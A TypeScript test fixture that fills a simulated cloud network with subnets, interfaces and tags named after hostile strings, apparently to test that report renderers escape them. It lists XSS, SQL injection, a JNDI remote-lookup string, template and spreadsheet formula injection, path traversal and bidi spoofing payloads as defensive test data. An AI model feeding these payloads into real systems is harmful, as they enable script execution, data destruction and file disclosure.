import { labAccount } from '../estate/estate.ts';
import { scenarioEstate } from '../estate/scenario.ts';

export const HOSTILE_ACCOUNT = '111122223333';
export const HOSTILE_REGION = 'eu-west-1';

/**
 * Names and tag values that a person who can only tag a subnet could choose, and that readers of a report would see.
 */
export const HOSTILE_NAMES: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'; DROP TABLE subnets; --",
  'a & b < c > d "e" \'f\'',
  '&lt;b&gt; &amp; &#60;',
  '</text></svg><script>alert(1)</script>',
  ']]><!--',
  '<!channel> <!here> <@U012345> <https://example.com|click>',
  '*bold* _italic_ ~strike~ `code` ```fence```',
  '\u202etxt.exe\u202c',
  '\u200b\u200e\u200f\u2066zero width\u2069',
  'line one\nline two\r\nline three\ttab',
  '=HYPERLINK("http://example.com","x")',
  '+1+1',
  '@SUM(A1)',
  '{"json": "yes", "x": [1]}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on loggers, not a template
  '${jndi:ldap://example.com/x}',
  '{{constructor.constructor("alert(1)")()}}',
  'back\\slash "quote" \\n',
  '../../etc/passwd',
  'name{label="x"} 1',
  '\u{1f600}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{1f1ea}\u{1f1fa}',
  '中文 العربية עברית हिन्दी',
  'é vs e\u0301',
  'x'.repeat(256),
  ' leading and trailing ',
  '',
];

/** A subnet for every hostile name, each with an interface and a tag that carry it too. */
export const hostileNames = scenarioEstate({
  name: 'hostile-names',
  description: 'subnets, interfaces and tags whose names try to break whatever shows them',
  accounts: [labAccount(HOSTILE_ACCOUNT, '<b>hostile</b>', [HOSTILE_REGION])],
  scenarios: [
    (world) => {
      const vpc = world.createVpc({
        ownerId: HOSTILE_ACCOUNT,
        region: HOSTILE_REGION,
        cidrBlock: '10.66.0.0/16',
        name: '<h1>vpc</h1>',
      });
      for (const [index, name] of HOSTILE_NAMES.entries()) {
        const { subnetId } = world.createSubnet({
          vpcId: vpc.vpcId,
          cidrBlock: `10.66.${index}.0/26`,
          name,
          tags: { team: name, [`key ${name}`.slice(0, 128)]: 'value' },
        });
        world.createInterface({
          subnetId,
          description: `ELB app/${name}/50dc6c495c0c9188`,
          requesterId: 'amazon-elb',
        });
        world.createInterface({ subnetId, description: name, attachment: null, tags: { Name: name } });
      }
      return () => undefined;
    },
  ],
});
